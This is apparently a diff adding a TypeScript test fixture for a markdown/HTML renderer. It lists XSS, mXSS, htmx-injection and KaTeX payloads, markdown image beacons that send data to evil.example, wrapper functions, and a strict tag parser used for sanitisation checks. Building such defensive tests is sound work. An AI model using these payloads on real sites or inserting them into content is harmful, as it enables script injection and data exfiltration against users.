@@ -1,0 +1,121 @@
+// Texts that want to be more than text: scripts, beacons, htmx, formulas with side effects. Ours, after the families that the references of
+// TRUST.md D name (XSS and mXSS sets, markdown image exfiltration, htmx attributes, KaTeX commands).
+export const hostilePayloads: string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<template hx type="partial" hx-target="#dock" hx-swap="outerHTML">x</template>',
+  '<hx-partial hx-target="#dock" hx-swap="outerHTML">x</hx-partial>',
+  '<HX-PARTIAL hx-target="#dock">x</HX-PARTIAL>',
+  '&lt;hx-partial hx-target="#dock">',
+  '<div hx-get="/b/1/reveal" hx-trigger="load">',
+  '<div data-hx-post="/b/1/vote" data-hx-trigger="load">',
+  '<div hx-swap-oob="true" id="dock">',
+  '<div hx-on:click="alert(1)">',
+  '<form action="https://evil.example"><button>Vote</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<link rel=preload href=https://evil.example>',
+  '<link rel=stylesheet href=https://evil.example/a.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href=https://evil.example/>',
+  '<style>@import url(https://evil.example)</style>',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '<object data=https://evil.example></object>',
+  '<embed src=https://evil.example>',
+  '<video src=https://evil.example autoplay>',
+  '<audio src=https://evil.example autoplay>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://evil.example" ping="https://evil.example">x</a>',
+  '<p id="dock" name="csrf" style="position:fixed;inset:0">',
+  '<input name=outcome value=b>',
+  '</div></div></section></main><h1>Fake</h1>',
+  '</template><script>alert(1)</script>',
+  '<!-- <script>alert(1)</script> -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php alert(1) ?>',
+  '<x/onclick=alert(1)>',
+  '<<script>alert(1)//<</script>',
+  '<img src="x" \n onerror="alert(1)">',
+  '<scr\0ipt>alert(1)</scr\0ipt>',
+  '\u2028<script>alert(1)</script>\u2029',
+  '![x](https://evil.example/?q=secret)',
+  '![x](https://evil.example/a.png "title")',
+  '![x][r]\n\n[r]: https://evil.example/a.png',
+  '[![x](https://evil.example/a.png)](https://evil.example)',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](https://evil.example "a\\" onmouseover=\\"alert(1)")',
+  '[x](<https://evil.example/" onclick="alert(1)>)',
+  '[<img src=x onerror=alert(1)>](https://evil.example)',
+  '<https://evil.example/"onclick="alert(1)>',
+  '<javascript:alert(1)>',
+  '`<script>alert(1)</script>`',
+  '``` "onload="alert(1)\ncode\n```',
+  '```html\n<script>alert(1)</script>\n```',
+  '```<script>alert(1)</script>\nx\n```',
+  '$\\href{javascript:alert(1)}{x}$',
+  '$\\url{javascript:alert(1)}$',
+  '$\\htmlData{hx-get=/x}{y}$',
+  '$\\htmlClass{htmx-request}{y}$',
+  '$\\htmlId{dock}{y}$',
+  '$\\htmlStyle{position:fixed}{y}$',
+  '$\\includegraphics{https://evil.example/a.png}$',
+  '$\\text{<script>alert(1)</script>}$',
+  '$\\color{red;background:url(https://evil.example)}x$',
+  '$\\colorbox{"onload=alert(1)}{x}$',
+  '$$\\def\\a{\\a\\a}\\a$$',
+  '$\\rule{99999em}{99999em}$',
+  '\\[<img src=x onerror=alert(1)>\\]',
+  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |',
+  '- <script>alert(1)</script>\n  - <svg onload=alert(1)>',
+  '> <script>alert(1)</script>',
+  '# <script>alert(1)</script>',
+  '[r]: javascript:alert(1)\n\n[r]',
+  '\uE002<script>alert(1)</script>\uE003',
+  '\uE0000\uE001<script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+]
+
+export const wrappers: ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `Words before ${payload} and after.`,
+  (payload) => `- item ${payload}\n- other`,
+  (payload) => `**${payload}**`,
+  (payload) => `> ${payload}`,
+  (payload) => `| a |\n|---|\n| ${payload.replaceAll('\n', ' ')} |`,
+  (payload) => `\`\`\`\n${payload}\n\`\`\``,
+  (payload) => `[${payload}](https://e.example)`,
+]
+
+export type Tag = { name: string; isClosing: boolean; attributes: [name: string, value: string][] }
+
+/** Every tag of a piece of HTML, read by rules stricter than a browser's: anything that starts like a tag and is none is an error. */
+export function tagsOf(html: string, from: string): Tag[] {
+  const tags: Tag[] = []
+  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
+    const match = /^<(\/?)([a-z]+)((?: [a-z-]+(?:="[^"<>]*")?)*)>/.exec(html.slice(at, at + 4000))
+    if (!match) throw new Error(`not a tag of ours: ${html.slice(at, at + 80)} from ${from}`)
+    const [, slash, name = '', attributes = ''] = match
+    tags.push({
+      name,
+      isClosing: slash === '/',
+      attributes: [...attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)].map(([, attribute = '', value = '']) => [
+        attribute,
+        value,
+      ]),
+    })
+  }
+  return tags
+}
